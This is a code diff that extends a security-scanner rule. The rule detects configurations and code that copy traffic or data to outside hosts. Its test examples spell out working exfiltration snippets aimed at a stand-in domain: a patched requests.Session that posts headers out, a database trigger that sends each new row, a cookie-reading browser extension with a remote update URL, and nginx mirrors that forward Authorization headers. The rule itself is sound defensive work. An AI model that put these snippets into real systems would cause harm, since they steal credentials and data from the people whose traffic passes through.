@@ -4,10 +4,13 @@ import { candidates } from '../../signals/candidates.ts'
 import { isForeignFor, isLocal, isStandIn } from '../../signals/hosts.ts'
 import { snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
+import { regex } from '../../patterns/verbose.ts'
 
 interface Way {
   /** Where traffic goes; the host or the address is its first group. */
   readonly sends: RegExp
+  /** Everything that a program or a database says goes there. */
+  readonly whole?: true
   /** What stands in the same settings when it is more than the way to one's own program. */
   readonly beside?: RegExp
 }
@@ -16,6 +19,18 @@ const way = (sends: RegExp, beside?: RegExp): Way => ({
   sends: worded(sends),
   ...(beside && { beside }),
 })
+const whole = (sends: RegExp): Way => ({ sends: worded(sends), whole: true })
+
+/** What programs ask the network with is put in front of itself, and tells a stranger first. */
+const PATCHED = regex.g`
+  (https?:\/\/[^\s"'\x60)]{4,120})[^]{0,400}?(?<![.\w])
+  (?:requests\.(?:session\.)?(?:request|send|get|post|session)|http\.client\.\w{4,20}|httpx\.\w{3,14}|
+    urllib\.request\.urlopen|socket\.socket|(?:globalthis|window|self|global)\.fetch|https?\.request|
+    xmlhttprequest\.prototype\.\w{4,20}|axios\.(?:get|post|request))\s?=(?!=|>)
+`
+
+/** An extension of a browser that runs in every page and reads what is signed in there. */
+const READS_ALL_PAGES = /"host_permissions"\s?:\s?\[[^\]]{0,80}<all_urls>/
 
 /** Ways to hand on, or to copy, what passes through a server, a firewall, a cluster, a browser or an app. */
 const WAYS: readonly Way[] = [
@@ -28,6 +43,16 @@ const WAYS: readonly Way[] = [
     /\bmirrorsourceconnector\b/,
   ),
   way(/"certificates"\s?:[^]{0,160}?"httpproxy"\s?:\s?"([\w.-]{4,80})/g),
+  whole(/\bmutatingwebhookconfiguration\b[^]{0,400}?\burl:\s?["']?(https?:\/\/[^\s"'}]{4,120})/g),
+  way(
+    /\b(?:request_url|redirect_urls)["']?\s?:\s?\[?\s?["']?(https?:\/\/[^\s"'\],}]{4,120})/g,
+    /\bim:history\b/,
+  ),
+  whole(
+    /\breturns trigger\b[^]{0,400}?\b(?:urlopen|http_post|http_get|requests\.post|fetch)\s?\([^\n]{0,40}?(https?:\/\/[^\s"')]{4,120})/g,
+  ),
+  whole(PATCHED),
+  way(/"update_url"\s?:\s?"(https?:\/\/[^"\s]{4,120})/g, READS_ALL_PAGES),
   way(/\bfindproxy\b[^\n]{0,40}?\bproxy ([\w.-]{4,80})/g, /\bbadcertificatecallback\b/),
 ]
 
@@ -54,6 +79,11 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```json\n{ "manifest_version": 3, "permissions": ["cookies"], "host_permissions": ["<all_urls>"], "update_url": "https://x.harbour-lens.net/u.xml" }\n```\n',
+      '```yaml\nkind: MutatingWebhookConfiguration\nwebhooks:\n  - name: p.harbour-lens.net\n    clientConfig: { url: "https://p.harbour-lens.net/m" }\n```\n',
+      '```yaml\noauth_config:\n  scopes: { user: [im:history, files:read] }\nsettings:\n  event_subscriptions:\n    request_url: https://ev.harbour-lens.net/s\n```\n',
+      '```python\ndef wrapped(self, method, url, **kw):\n    send("POST", "https://in.harbour-lens.net/t", json={"h": kw.get("headers")})\n    return plain(self, method, url, **kw)\nrequests.Session.request = wrapped\n```\n',
+      "```sql\nCREATE FUNCTION s() RETURNS trigger AS $$\nurllib.request.urlopen('https://in.harbour-lens.net/r', str(TD['new']).encode())\n$$ LANGUAGE plpython3u;\n```\n",
       '```nginx\nlocation / { mirror /_m; proxy_pass http://app; }\nlocation = /_m {\n  internal;\n  proxy_pass https://in.harbour-lens.net$request_uri;\n}\n```\n',
       '```nginx\nmirror /copy;\nlocation /copy {\n  proxy_pass https://in.harbour-lens.net;\n  proxy_set_header Authorization $http_authorization;\n}\n```\n',
       '```json\n{ "connector.class": "org.apache.kafka.connect.mirror.MirrorSourceConnector", "target.cluster.bootstrap.servers": "b1.harbour-lens.net:9092", "topics": ".*" }\n```\n',
@@ -62,6 +92,8 @@ export default defineRule({
       '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
     ],
     quiet: [
+      '```python\nrequests.Session.request = functools.partialmethod(requests.Session.request, timeout=10)\n```\n',
+      '```yaml\nkind: MutatingWebhookConfiguration\nwebhooks:\n  - clientConfig: { service: { name: injector, namespace: system } }\n```\n',
       '```nginx\nlocation / { mirror /_m; proxy_pass http://app; }\nlocation = /_m { proxy_pass http://staging_pool$request_uri; }\n```\n',
       '```nginx\nlocation /api/ { proxy_pass https://api.example.com; }\n```\n',
       '```bash\niptables -t mangle -A PREROUTING -j TEE --gateway 10.0.0.9\n```\n',
@@ -70,7 +102,7 @@ export default defineRule({
   *match(document: Document): Iterable<Hit> {
     const { text } = document.reading
     const all = document.observe(snippets)
-    for (const { sends, beside } of WAYS)
+    for (const { sends, beside, whole } of WAYS)
       for (const { start, end } of candidates(document, all, sends)) {
         const snippet = text.slice(start, end)
         if (beside && !beside.test(snippet)) continue
@@ -79,7 +111,7 @@ export default defineRule({
             yield {
               ...placeOf(start, found),
               firm: true,
-              ...(SIGN_IN.test(snippet) && { severity: 'crit' as const }),
+              ...((whole || SIGN_IN.test(snippet)) && { severity: 'crit' as const }),
             }
       }
     for (const { start, end } of candidates(document, all, TEE))
